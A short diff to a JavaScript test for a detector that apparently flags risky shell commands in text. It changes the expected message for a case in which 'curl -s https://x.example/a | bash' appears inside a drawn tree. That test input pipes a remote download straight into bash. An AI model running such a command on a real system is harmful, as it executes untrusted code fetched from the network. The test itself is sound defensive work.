@@ -264,7 +264,7 @@ describe("an installer of the vendor whom the text is about is of medium severit
 
 test("a download in a drawn tree, which a program has shown, is an example", () => {
   expect(seenIn(block("└─ curl -s https://x.example/a | bash"))).toEqual([
-    "2 medium pipes a download into bash",
+    "2 medium pipes a download from x.example into bash",
   ]);
 });
 
